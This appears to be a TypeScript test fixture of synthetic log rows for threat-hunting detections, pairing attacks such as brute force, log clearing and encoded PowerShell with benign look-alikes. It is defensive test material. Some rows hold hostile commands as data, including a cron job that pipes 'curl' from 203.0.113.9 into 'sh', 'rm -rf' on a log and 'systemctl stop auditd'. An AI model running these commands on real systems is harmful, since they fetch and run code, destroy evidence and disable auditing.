// Log-ins and hosts: attacks that hunts must find, beside what looks like them.
import { every, type HuntCase, type Made } from './rig.ts'

const DAY = 24 * 60

const login = (outcome: string, user: string, ip: string, more: Made = {}): Made => ({
  event_category: 'authentication',
  event_action: 'ssh_login',
  event_outcome: outcome,
  dataset: 'sshd',
  host_name: 'web1',
  user_name: user,
  source_ip: ip,
  source_scope: 'public',
  ...more,
})

const sudo = (user: string, command: string, more: Made = {}): Made => ({
  event_category: 'process',
  event_action: 'sudo_command',
  event_outcome: 'success',
  user_name: user,
  user_target_name: 'root',
  host_name: 'web1',
  process_command_line: command,
  ...more,
})

const processOf = (name: string, command: string, more: Made = {}): Made => ({
  event_category: 'process',
  event_action: 'process_start',
  event_outcome: 'success',
  host_name: 'web1',
  process_name: name,
  process_command_line: command,
  ...more,
})

export const hostCases: readonly HuntCase[] = [
  {
    hunt: 'login_after_guessing',
    rows: [
      ...every(12, 1, 60, () => login('failure', 'budi', '198.51.100.7')),
      { ...login('success', 'budi', '198.51.100.7'), at: 75 },
      // The password came to her mind after three tries; the other guesser never got in; this one came back five hours later.
      ...every(3, 1, 60, () => login('failure', 'siti', '198.51.100.8')),
      { ...login('success', 'siti', '198.51.100.8'), at: 65 },
      ...every(40, 1, 60, () => login('failure', 'root', '198.51.100.9')),
      ...every(12, 1, 60, () => login('failure', 'andi', '198.51.100.10')),
      { ...login('success', 'andi', '198.51.100.10'), at: 400 },
    ],
    finds: ['source_ip:198.51.100.7'],
  },
  {
    hunt: 'password_spray',
    rows: [
      ...every(15, 3, 10, (n) => login('failure', `petugas${n}`, '203.0.113.5')),
      { ...login('success', 'petugas3', '203.0.113.5'), at: 80 },
      // One account a hundred times, and an office of four.
      ...every(100, 1, 10, () => login('failure', 'root', '203.0.113.6')),
      ...every(8, 9, 10, (n) => login('failure', `orang${n % 4}`, '203.0.113.7')),
    ],
    finds: ['source_ip:203.0.113.5'],
  },
  {
    hunt: 'account_under_siege',
    rows: [
      ...every(25, 5, 10, (n) => login('failure', 'ketua', `192.0.2.${n + 1}`, { source_asn: 64_500 + n })),
      ...every(60, 5, 10, () => login('failure', 'budi', '192.0.2.200')),
      ...every(30, 5, 10, (n) => login('success', 'siti', `192.0.2.${n + 1}`)),
    ],
    finds: ['user:ketua'],
  },
  {
    hunt: 'login_from_new_country',
    rows: [
      ...every(5, DAY, -6 * DAY, () => login('success', 'budi', '180.250.19.4', { source_country: 'ID' })),
      { ...login('success', 'budi', '91.240.118.172', { source_country: 'RU' }), at: 100 },
      // She has been in Singapore before; nobody knows him yet; the third only failed.
      ...every(5, DAY, -6 * DAY, () => login('success', 'siti', '180.250.19.4', { source_country: 'ID' })),
      { ...login('success', 'siti', '175.41.128.1', { source_country: 'SG' }), at: -3 * DAY },
      { ...login('success', 'siti', '175.41.128.1', { source_country: 'SG' }), at: 100 },
      { ...login('success', 'baru', '175.41.128.1', { source_country: 'SG' }), at: 100 },
      ...every(5, DAY, -6 * DAY, () => login('success', 'andi', '180.250.19.4', { source_country: 'ID' })),
      { ...login('failure', 'andi', '91.240.118.172', { source_country: 'RU' }), at: 100 },
    ],
    finds: ['user:budi'],
  },
  {
    hunt: 'first_seen_admin',
    rows: [
      ...every(5, DAY, -6 * DAY, () => login('success', 'root', '10.1.1.5')),
      { ...login('success', 'sysadmin2', '10.1.1.6'), at: 60 },
      { ...login('success', 'root', '10.1.1.5'), at: 70 },
      { ...login('success', 'budi', '10.1.1.7'), at: 80 },
      // A new host: everybody is new there.
      { ...login('success', 'admin', '10.1.1.8', { host_name: 'web9' }), at: 90 },
    ],
    finds: ['user:sysadmin2'],
  },
  {
    hunt: 'impossible_travel',
    rows: [
      { ...login('success', 'budi', '180.250.19.4', { source_country: 'ID' }), at: 60 },
      { ...login('success', 'budi', '91.240.118.172', { source_country: 'RU' }), at: 100 },
      { ...login('success', 'siti', '180.250.19.4', { source_country: 'ID' }), at: 60 },
      { ...login('success', 'siti', '175.41.128.1', { source_country: 'SG' }), at: 700 },
      { ...login('success', 'root', '180.250.19.4', { source_country: 'ID' }), at: 60 },
      { ...login('success', 'root', '91.240.118.172', { source_country: 'RU' }), at: 62 },
    ],
    finds: ['user:budi'],
  },
  {
    hunt: 'night_login_quiet_days',
    rows: [
      // The window begins at 07:00 WIB: 17 hours later it is midnight.
      { ...login('success', 'budi', '10.1.1.5', { phase: 'masa_tenang' }), at: 17 * 60 },
      { ...login('success', 'siti', '10.1.1.5', { phase: 'masa_tenang' }), at: 3 * 60 },
      { ...login('success', 'andi', '10.1.1.5', { phase: 'kampanye' }), at: 17 * 60 },
      // The night watch.
      ...every(5, DAY, -5 * DAY - 7 * 60, () => login('success', 'piket', '10.1.1.5')),
      { ...login('success', 'piket', '10.1.1.5', { phase: 'masa_tenang' }), at: 17 * 60 },
    ],
    finds: ['user:budi'],
  },
  {
    hunt: 'login_from_rented_network',
    rows: [
      { ...login('success', 'budi', '167.99.71.12', { source_as_name: 'DigitalOcean, LLC' }), at: 30 },
      { ...login('success', 'siti', '180.250.19.4', { source_as_name: 'PT Telekomunikasi Indonesia' }), at: 30 },
      ...every(3, DAY, -3 * DAY, () => login('success', 'ci', '167.99.71.13', { source_as_name: 'DigitalOcean, LLC' })),
      { ...login('success', 'ci', '167.99.71.13', { source_as_name: 'DigitalOcean, LLC' }), at: 30 },
      { ...login('failure', 'andi', '167.99.71.12', { source_as_name: 'DigitalOcean, LLC' }), at: 30 },
    ],
    finds: ['user:budi'],
  },
  {
    hunt: 'dormant_account_wakes',
    rows: [
      { ...login('success', 'pps2019', '10.1.1.5'), at: -60 * DAY },
      { ...login('success', 'pps2019', '91.240.118.172'), at: 30 },
      ...every(20, 3 * DAY, -61 * DAY, () => login('success', 'budi', '10.1.1.5')),
      { ...login('success', 'budi', '10.1.1.5'), at: 30 },
      { ...login('success', 'baru', '10.1.1.5'), at: 30 },
    ],
    finds: ['user:pps2019'],
  },
  {
    hunt: 'web_server_child',
    rows: [
      {
        ...processOf('bash', 'sh -c whoami', { fields: { 'process.parent.name': 'php-fpm' }, user_name: 'www-data' }),
        at: 60,
      },
      // The application makes PDFs in this way every day, and an administrator has a shell.
      ...every(4, DAY, -4 * DAY, () =>
        processOf('sh', 'sh -c wkhtmltopdf', { host_name: 'web2', fields: { 'process.parent.name': 'nginx' } }),
      ),
      {
        ...processOf('sh', 'sh -c wkhtmltopdf', { host_name: 'web2', fields: { 'process.parent.name': 'nginx' } }),
        at: 60,
      },
      {
        ...processOf('bash', '-bash', {
          host_name: 'web3',
          user_name: 'budi',
          fields: { 'process.parent.name': 'sshd' },
        }),
        at: 60,
      },
    ],
    finds: ['host:web1'],
  },
  {
    hunt: 'logs_cleared',
    rows: [
      { ...sudo('budi', '/bin/rm -rf /var/log/nginx/access.log'), at: 30 },
      {
        event_category: 'configuration',
        event_action: 'log_cleared',
        event_outcome: 'success',
        host_name: 'dc1',
        user_name: 'admin',
        at: 40,
      },
      { ...sudo('siti', '/usr/bin/tail -f /var/log/nginx/access.log', { host_name: 'web2' }), at: 30 },
      { ...sudo('siti', '/bin/rm /tmp/berkas.log', { host_name: 'web2' }), at: 31 },
      {
        ...sudo('root', '/usr/sbin/logrotate /etc/logrotate.conf > /var/log/rotate.log', { host_name: 'web2' }),
        at: 32,
      },
    ],
    finds: ['host:dc1', 'host:web1'],
  },
  {
    hunt: 'defence_stopped',
    rows: [
      { ...sudo('budi', '/bin/systemctl stop auditd'), at: 30 },
      { ...sudo('siti', '/bin/systemctl stop nginx', { host_name: 'web2' }), at: 30 },
      { ...sudo('siti', '/bin/systemctl start nginx', { host_name: 'web2' }), at: 32 },
      { ...sudo('siti', '/bin/systemctl stop bluetooth', { host_name: 'web3' }), at: 32 },
    ],
    finds: ['host:web1'],
  },
  {
    hunt: 'new_scheduled_task',
    rows: [
      ...['web1', 'web2'].flatMap((host_name) =>
        every(6, DAY, -6 * DAY, () => ({
          ...processOf('cron', '/usr/local/bin/cadangan', { host_name }),
          event_action: 'cron_command',
        })),
      ),
      ...['web1', 'web2'].map((host_name) => ({
        ...processOf('cron', '/usr/local/bin/cadangan', { host_name }),
        event_action: 'cron_command',
        at: 30,
      })),
      { ...processOf('cron', 'curl -s http://203.0.113.9/x | sh'), event_action: 'cron_command', at: 60 },
    ],
    finds: ['host:web1'],
  },
  {
    hunt: 'encoded_powershell',
    rows: [
      {
        ...processOf('powershell.exe', `powershell.exe -NoP -W Hidden -Enc ${'SQBFAFgA'.repeat(8)}`, {
          host_name: 'ppk-7',
        }),
        at: 30,
      },
      {
        ...processOf('powershell.exe', 'powershell.exe -File C:\\Skrip\\cadangan.ps1', { host_name: 'ppk-8' }),
        at: 30,
      },
      { ...processOf('cmd.exe', 'cmd.exe /c echo frombase64string', { host_name: 'ppk-9' }), at: 30 },
    ],
    finds: ['host:ppk-7'],
  },
  {
    hunt: 'lateral_movement',
    rows: [
      ...every(8, 2, 30, (n) => smb('10.1.1.50', `10.1.2.${n + 1}`)),
      // An inventory server that has always done so, and a laptop with its two shares.
      ...[-3 * DAY, 30].flatMap((from) => every(8, 2, from, (n) => smb('10.1.1.60', `10.1.2.${n + 1}`))),
      ...every(10, 2, 30, (n) => smb('10.1.1.70', `10.1.2.${(n % 2) + 1}`)),
    ],
    finds: ['source_ip:10.1.1.50'],
  },
  {
    hunt: 'rare_process',
    rows: [
      { ...processOf('xmrg', '/dev/shm/xmrg -o 203.0.113.9', { host_name: 'web1' }), at: 30 },
      ...['web1', 'web2', 'web3', 'web4'].map((host_name) => ({
        ...processOf('agent', '/tmp/agent-install', { host_name }),
        at: 40,
      })),
      { ...processOf('alat', '/opt/alat/alat --jalan', { host_name: 'web2' }), at: 50 },
      ...[-DAY, 60].map((at) => ({ ...processOf('lama', '/tmp/lama', { host_name: 'web2' }), at })),
    ],
    finds: ['process:xmrg'],
  },
  {
    hunt: 'new_admin_account',
    hours: 168,
    rows: [
      { ...iam('user_add', 'bantu9', 'budi'), at: 30 },
      { ...iam('group_change', 'bantu9', 'budi', { 'group.name': 'sudo' }), at: 31 },
      { ...login('success', 'bantu9', '91.240.118.172'), at: 40 },
      // Committees get accounts without rights; an old hand is given more.
      ...every(10, 1, 60, (n) => iam('user_add', `ppk${n}`, 'budi')),
      { ...iam('group_change', 'ppk3', 'budi', { 'group.name': 'users' }), at: 80 },
      { ...iam('group_change', 'siti', 'budi', { 'group.name': 'sudo' }), at: 90 },
    ],
    finds: ['user:bantu9'],
  },
  {
    hunt: 'new_ssh_key',
    hours: 168,
    rows: [
      { ...sudo('budi', '/usr/bin/tee -a /home/budi/.ssh/authorized_keys'), at: 30 },
      { ...sudo('siti', '/bin/cat /home/budi/.ssh/authorized_keys', { host_name: 'web2' }), at: 30 },
      { ...sudo('siti', '/usr/bin/tee /etc/motd', { host_name: 'web2' }), at: 31 },
    ],
    finds: ['host:web1'],
  },
  {
    hunt: 'first_sudo',
    rows: [
      ...every(5, DAY, -5 * DAY, () => sudo('siti', '/usr/bin/apt update')),
      { ...sudo('siti', '/usr/bin/apt update'), at: 30 },
      { ...sudo('budi', '/bin/bash'), at: 60 },
      // A host that nobody knew before.
      { ...sudo('andi', '/bin/bash', { host_name: 'web9' }), at: 60 },
    ],
    finds: ['user:budi'],
  },
  {
    hunt: 'clock_changed',
    rows: [
      { ...sudo('budi', "/bin/date -s '2024-11-26 23:00:00'"), at: 30 },
      { ...sudo('siti', '/bin/date +%F', { host_name: 'web2' }), at: 30 },
      { event_category: 'host', event_action: 'time_change', user_name: 'LOCAL SERVICE', host_name: 'pc3', at: 30 },
    ],
    finds: ['host:web1'],
  },
]

function smb(from: string, to: string): Made {
  return {
    event_category: 'network',
    event_action: 'network_flow',
    source_ip: from,
    source_scope: 'private',
    destination_ip: to,
    destination_port: 445,
  }
}

function iam(action: string, target: string, by: string, fields: Readonly<Record<string, string>> = {}): Made {
  return {
    event_category: 'iam',
    event_action: action,
    event_outcome: 'success',
    user_name: by,
    user_target_name: target,
    host_name: 'web1',
    fields,
  }
}
